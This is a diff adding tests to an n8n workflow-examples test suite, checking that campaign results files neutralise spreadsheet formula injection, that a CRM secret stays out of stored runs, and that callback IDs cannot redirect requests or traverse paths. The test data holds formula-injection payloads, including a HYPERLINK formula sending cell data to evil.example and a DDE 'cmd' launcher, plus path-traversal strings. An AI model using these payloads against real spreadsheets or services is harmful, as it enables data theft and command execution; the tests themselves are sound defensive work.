@@ -1,7 +1,9 @@
 import { parse } from 'csv-parse/sync';
 import { stringify } from 'csv-stringify/sync';
 import { readdirSync } from 'node:fs';
-import { readFile, writeFile } from 'node:fs/promises';
+import { copyFile, readFile, writeFile } from 'node:fs/promises';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import path from 'node:path';
 import { contacts } from '../engine/workflows';
 import type { Sandbox } from '../sandbox';
@@ -33,6 +35,24 @@ const succeeded = (execution: Execution): Execution => {
 
 /** The campaign's results file. */
 const resultsIn = async (file: string) => parse<Record<string, string>>(await readFile(file), { columns: true, bom: true });
+
+/** Its headings and cells that a spreadsheet would evaluate; a phone number or an amount is no formula. */
+const formulasIn = async (file: string): Promise<string[]> =>
+	parse(await readFile(file, 'utf8'), { bom: true, relax_column_count: true, record_delimiter: ['\n', '\r\n', '\r'] })
+		.flat()
+		.filter((cell) => /^\s*[=+@-]|^[\t\r]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell));
+
+/** What somebody else may write into a sheet, or the API into a reason. */
+const hostileTexts = [
+	'=HYPERLINK("http://evil.example/?"&A2,"Click")',
+	"+1+cmd|' /C calc'!A0",
+	'-2+3+cmd',
+	'@SUM(A1:A9)',
+	'\t=1+1',
+	'\r=1+1',
+	' =1+1',
+	'Ada\r=1+1',
+];
 
 describe('campaign.workflow.json', () => {
 	it('as it is imported, calls nobody and writes for each contact what would be sent', async () => {
@@ -99,6 +119,45 @@ describe('campaign.workflow.json', () => {
 		]);
 	});
 
+	describe('a cell that a spreadsheet would take for a formula', () => {
+		const rows = [
+			...hostileTexts.map((name, n) => ({ '=2+5': 'x', phone: contacts(20)[n]!.phone, name, amount: '-12.50' })),
+			{ '=2+5': 'x', phone: '+49-171-2345678', name: 'Ada, "the first"', amount: '7' },
+		];
+
+		it.each(['dryRun', 'live'] as const)('is text in the results file, and phone numbers and amounts are as they were (Mode: %s)', async (mode) => {
+			for (const [n, error] of hostileTexts.entries()) bench.sandbox.destinationOutcome.set(rows[n]!.phone, { status: 'failed', error });
+			const { execution, resultsFile } = await runCampaign(bench.stage, quiet, { contactsFile: await sheetOf(rows), mode });
+			succeeded(execution);
+			expect(await formulasIn(resultsFile)).toEqual([]);
+
+			const results = await resultsIn(resultsFile);
+			const byPhone = new Map(results.map((row) => [row.destination, row]));
+			expect(results).toHaveLength(rows.length);
+			expect(byPhone.get(rows[0]!.phone)).toMatchObject({
+				"'=2+5": 'x',
+				name: `'${hostileTexts[0]}`,
+				amount: '-12.50',
+				...(mode === 'live' ? { status: 'failed', reason: `'${hostileTexts[0]}` } : { 'prompt_variables.name': `'${hostileTexts[0]}` }),
+			});
+			expect(byPhone.get('+491712345678')).toMatchObject({ name: 'Ada, "the first"', phone: "'+49-171-2345678" });
+		});
+
+		it('can be read again: a results file as contacts calls the same numbers', async () => {
+			const { resultsFile } = await runCampaign(bench.stage, quiet, { contactsFile: await sheetOf(rows), mode: 'dryRun' });
+			const again = path.join(bench.stage.userFolder, 'again.csv');
+			await copyFile(resultsFile, again);
+			const { outcomes } = await runCampaign(bench.stage, quiet, { contactsFile: again });
+			expect(
+				outcomes
+					.flat()
+					.map(({ destination }) => destination)
+					.sort(),
+			).toEqual(bench.dialed.sort());
+			expect(bench.dialed).toHaveLength(rows.length);
+		});
+	});
+
 	it('executed once more, calls nobody twice', async () => {
 		const rows = contacts(15);
 		const { workflow } = await runCampaign(bench.stage, quiet, { contactsFile: await sheetOf(rows) });
@@ -144,7 +203,7 @@ describe('webhook-one-call.workflow.json', () => {
 			const answer = await postJson(url, record, { 'X-CRM-Secret': 'only the CRM knows' });
 			return (await answer.json()) as { status?: string };
 		};
-		return { url, ask, end: async () => await client.deactivate(workflow) };
+		return { workflow, url, ask, end: async () => await client.deactivate(workflow) };
 	}
 
 	it('as it is imported, answers the CRM that nobody was called', async () => {
@@ -171,6 +230,16 @@ describe('webhook-one-call.workflow.json', () => {
 		});
 		expect(bench.dialed).toEqual([customer.phone, '+15550107002']);
 		expect(bench.sandbox.journal[0]).toMatchObject({ externalCallId: 'crm-4711', variables: { name: 'Ada', amount: '12.5' } });
+		await end();
+	});
+
+	it('keeps the CRM’s secret out of all that comes behind the webhook, and out of the answer', async () => {
+		const { workflow, ask, end } = await crm({ mode: 'live' });
+		expect(JSON.stringify(await ask(customer))).not.toContain('only the CRM knows');
+		const [{ data }] = (await bench.ended(workflow, 1)) as [Execution];
+		const holding = Object.entries(data.resultData.runData).filter(([, run]) => JSON.stringify(run).includes('only the CRM knows'));
+		// n8n's own Webhook node stores the headers of its request.
+		expect(holding.map(([node]) => node)).toEqual(['CRM asks for a call']);
 		await end();
 	});
 });
@@ -368,7 +437,7 @@ describe('wait-for-callback.workflow.json', () => {
 		const execution = await client.getExecution(id);
 		const [placed] = jsonOf(execution, 'Call');
 		expect(jsonOf(execution, 'After the call')).toEqual([{ name: 'Amara Osei', phone: '+15550100101', call_id: placed!.call_id }]);
-		expect(bench.sandbox.journal[0]!.externalCallId).toContain(`/webhook-waiting/${id}`);
+		expect(bench.sandbox.journal[0]!.externalCallId).toMatch(new RegExp(`^${id}\\?signature=\\w+$`));
 		expect(bench.dialed).toEqual(['+15550100101']);
 
 		const all = new Set((await client.listExecutions({ workflowId: workflow.id })).map((execution) => execution.id));
@@ -377,6 +446,64 @@ describe('wait-for-callback.workflow.json', () => {
 		expect(all.size).toBe(1);
 		succeeded(await client.waitForExecution([...all][0]!));
 		await client.deactivate(workflow);
+	});
+
+	it('sends nothing to an address that a callback names, and goes on with nothing else but an execution of this n8n', async () => {
+		const { client } = bench.stage;
+		const asked: string[] = [];
+		const elsewhere = createServer((request, response) => {
+			asked.push(`${request.method} ${request.url}`);
+			response.end('{}');
+		});
+		await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve));
+		const host = `127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;
+		const credential = await credentialWithSecret(bench, SECRET);
+		const workflow = await importExample(bench, 'wait-for-callback.workflow.json', { credentials: [credential] });
+		await client.activate(workflow);
+		const url = webhookUrl(bench, CALLBACK);
+		await webhookListens(() => postJson(url, {}));
+
+		const named = [
+			`http://${host}/webhook-waiting/1`,
+			`//${host}/webhook-waiting/1?signature=a`,
+			`@${host}/webhook-waiting/1`,
+			`.${host}/webhook-waiting/1`,
+			'../rest/settings',
+			'1/../../rest/settings',
+			'1?signature=a/../../../rest/settings',
+			'',
+			{ a: 1 },
+		];
+		for (const [n, external_call_id] of named.entries()) {
+			expect((await postJson(url, { call_id: `c-${n}`, external_call_id }, { 'X-Callback-Secret': SECRET })).status).toBe(200);
+		}
+		const executions = await bench.ended(workflow, named.length);
+		elsewhere.close();
+		expect(asked).toEqual([]);
+		expect(executions.map(({ status, data }) => [status, Object.keys(data.resultData.runData)])).toEqual(
+			named.map(() => ['success', ['A call has ended', 'Somebody waits for it']]),
+		);
+		await client.deactivate(workflow);
+	});
+});
+
+describe('campaign-larger-than-one-machine.workflow.json', () => {
+	it('writes no cell that a spreadsheet would take for a formula', async () => {
+		const workflow = await importExample(bench, 'campaign-larger-than-one-machine.workflow.json');
+		const lines = hostileTexts.map((text, n) => ({
+			json: { campaign: text, name: text, phone: contacts(20)[n]!.phone, status: 'failed', reason: text },
+		}));
+		// In place of the table.
+		const nodes = workflow.nodes.map(({ id, name, position, ...node }) =>
+			name === 'Results'
+				? { id, name, position, type: 'n8n-nodes-base.code', typeVersion: 2, parameters: { jsCode: `return ${JSON.stringify(lines)};` } }
+				: { id, name, position, ...node },
+		);
+		const filled = await bench.stage.client.createWorkflow({ ...workflow, nodes });
+		succeeded(await bench.stage.client.runAndWait(filled, 'See results'));
+		const file = path.join(bench.stage.filesFolder, 'campaign-results.csv');
+		expect(await formulasIn(file)).toEqual([]);
+		expect((await resultsIn(file)).map(({ phone }) => phone)).toEqual(lines.map(({ json }) => json.phone));
 	});
 });
 
@@ -390,6 +517,12 @@ describe('every example', () => {
 	it.each(files)('%s imports, and n8n knows all its nodes and their fields', async (file) => {
 		const { nodes } = await importExample(bench, file);
 		expect(nodes.flatMap((node) => complaintsAbout(node, described(node)))).toEqual([]);
+	});
+
+	it.each(files)('%s writes cells as they are, not as a person’s input, where it writes into a sheet', async (file) => {
+		const { nodes } = await importExample(bench, file);
+		const writing = nodes.filter(({ type, parameters }) => /googleSheets|microsoftExcel/i.test(type) && parameters.operation !== 'read');
+		expect(writing.map(({ parameters }) => parameters.options)).toEqual(writing.map(() => ({ cellFormat: 'RAW' })));
 	});
 
 	it.each(files)('%s calls nobody until Mode is set to Live, and remembers whom it called, or has a database that does', async (file) => {
